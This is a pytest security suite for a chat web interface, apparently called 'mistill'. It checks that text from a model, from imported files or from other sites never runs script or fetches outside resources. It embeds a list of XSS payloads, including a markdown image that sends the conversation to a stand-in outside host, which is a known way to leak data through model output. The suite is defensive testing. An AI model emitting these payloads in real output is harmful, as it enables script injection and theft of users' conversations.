"""What a model, a file, a server or another site may write: nothing runs and nothing is fetched."""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from mistill.serve.http.page_files import PageFile

pytestmark = pytest.mark.slow

OUTSIDE = "http://127.0.0.2:9/"
ATTACKS = [
    f'<img src="{OUTSIDE}img" onerror="alert(1)">',
    "<script>alert(1)</script>",
    f'<script src="{OUTSIDE}script.js"></script>',
    '<svg onload="alert(1)"><animate onbegin=alert(1)></svg>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"![x]({OUTSIDE}picture?q=everything-said-so-far)",
    f'<a href="{OUTSIDE}" ping="{OUTSIDE}ping">x</a>',
    f'<form action="{OUTSIDE}"><input name=q><button>x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f"<style>@import '{OUTSIDE}style.css'; * {{ background: url({OUTSIDE}bg) }}</style>",
    f'<link rel="stylesheet" href="{OUTSIDE}link.css"><base href="{OUTSIDE}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '"><b id="message" onfocus="alert(1)" autofocus>',
    "<details open ontoggle=alert(1)>",
    f'<object data="{OUTSIDE}"></object><embed src="{OUTSIDE}">',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} `${alert(1)}`",
]
ALL = "\n\n".join(
    [*ATTACKS, *(f"```{attack}\n{attack}\n```" for attack in ATTACKS), "| a |\n|---|"]
    + [f"| {attack.replace('|', ' ')} |" for attack in ATTACKS]
    + [f"- {attack}\n> {attack}\n\n# {attack}\n\n**{attack}** `{attack}`" for attack in ATTACKS]
)
ELEMENTS = (
    "script:not([src^='static/']), img, iframe, object, embed, form:not([id]):not(.editor), "
    "style, base, meta[http-equiv], link:not([href^='static/']), [onerror], [onload], [ping], "
    "[style], video, audio, math, details"
)


def nothing_ran(chat) -> None:
    chat.page.wait_for_timeout(150)
    assert chat.page.locator(ELEMENTS).count() == 0
    for link in chat.page.locator("a").all():
        assert link.get_attribute("href").startswith(("http://", "https://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    chat.check()


def test_nothing_that_a_model_writes_runs_or_is_fetched(chat, script):
    script.pieces = [ALL[start : start + 50] for start in range(0, len(ALL), 50)]
    text = chat.ask("Attack")
    for attack in ATTACKS[:4]:
        assert attack in text.replace("\xa0", " ")
    nothing_ran(chat)
    chat.page.reload()
    chat.wait(".message")
    nothing_ran(chat)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_typed_named_or_told_runs(chat, script, attack):
    script.pieces = [attack]
    chat.ask(attack)
    assert chat.texts[0] == attack
    chat.page.click("#rename")
    chat.wait("#ask")
    chat.page.fill("#ask-field", attack)
    chat.page.click("#ask-do")
    chat.until("(name) => document.querySelector('#chats .name').textContent === name", attack)
    chat.page.fill("#search", attack[:12])
    chat.until("() => document.querySelector('#chats mark')")
    script.status, script.error = 400, {"error": {"message": attack, "code": attack}}
    chat.ask("Again")
    assert chat.page.locator(".error").last.inner_text() == attack.strip()
    chat.page.keyboard.press("Shift+Control+D")
    assert attack in chat.toast
    nothing_ran(chat)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_file_or_the_models_name_holds_runs(open_page, script, tmp_path, attack):
    script.model = attack
    chat = open_page()
    answer = {"role": "assistant", "content": attack, "ending": attack, "error": attack}
    content = {
        "format": "mistill-chats", "version": 1,
        "chats": [{
            "title": attack, "system": attack, "settings": {}, "created": 1, "updated": 1,
            "messages": [{"role": "user", "content": attack},
                         {**answer, "versions": [answer, answer], "version": 1}],
        }],
    }  # fmt: skip
    file = tmp_path / "chats.json"
    file.write_text(json.dumps(content), "utf-8")
    chat.page.set_input_files("#import-file", file)
    chat.until("() => document.querySelectorAll('#chats li').length === 1")
    chat.page.click("#chats .open")
    chat.wait(".message")
    assert chat.page.locator("#model-name").text_content() == attack
    chat.page.click("#open-settings")
    assert chat.page.input_value("#system").replace("\r\n", "\n") == attack
    nothing_ran(chat)
    content["chats"] = {attack: attack}
    content["format"] = attack
    file.write_text(json.dumps(content), "utf-8")
    chat.page.set_input_files("#import-file", file)
    chat.until("() => document.querySelector('#import-result').textContent.startsWith('Nothing')")
    nothing_ran(chat)


def test_a_link_of_a_model_opens_another_tab_that_knows_nothing_of_this_one(chat, script):
    script.pieces = [f"[here]({chat.address}health)"]
    chat.ask("Link")
    with chat.page.context.expect_page() as opened:
        chat.page.click(".message.last a")
    other = opened.value
    other.wait_for_load_state()
    assert other.evaluate("() => [window.opener, document.referrer]") == [None, ""]


def test_a_program_that_stands_in_the_page_does_not_run(open_page, script):
    page = script.files["/"]
    inside = b"<script>document.title = 'ran'</script><img src=x onerror=\"document.title='ran'\">"
    content = page.content.replace(b'<div id="app">', inside + b'<div id="app">')
    assert content != page.content
    script.files["/"] = PageFile(content, page.content_type)
    chat = open_page()
    chat.page.wait_for_timeout(200)
    assert chat.page.title() == "mistill"
    assert len([fault for fault in chat.faults if "Content Security Policy" in fault]) >= 2
    chat.faults.clear()
    chat.requests.clear()


@pytest.mark.parametrize(
    "code",
    [
        "document.body.innerHTML = '<b>x</b>'",
        "document.write('x')",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "document.createElement('script').text = 'x'",
        "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    ],
)
def test_trusted_types_refuse_text_as_markup(chat, code):
    assert chat.run(f"() => {{ try {{ {code}; return false; }} catch {{ return true; }} }}")
    assert chat.faults
    chat.faults.clear()


@contextlib.contextmanager
def another_site(document: str) -> Iterator[str]:
    """A page on another origin of this machine."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(document.encode())

        def log_message(self, format, *values) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


def test_another_site_cannot_show_the_page_in_a_frame(chat):
    with another_site(f'<iframe src="{chat.address}"></iframe>') as site:
        tab = chat.page.context.new_page()
        said: list[str] = []
        tab.on("console", lambda message: said.append(message.text))
        tab.goto(site)
        tab.wait_for_timeout(300)
        assert any("frame-ancestors" in line or "X-Frame-Options" in line for line in said)
        frames = [frame.url for frame in tab.frames[1:]]
        assert chat.address not in frames


def test_another_site_cannot_read_the_pages_files(chat):
    with another_site("<p>elsewhere</p>") as site:
        tab = chat.page.context.new_page()
        tab.goto(site)
        read = tab.evaluate(
            """async (address) => {
              const tries = [fetch(address), fetch(address + "static/page.js"),
                fetch(address + "v1/models"), import(address + "static/page.js")];
              return (await Promise.allSettled(tries)).map(({ status }) => status);
            }""",
            chat.address,
        )
        assert read == ["rejected"] * 4
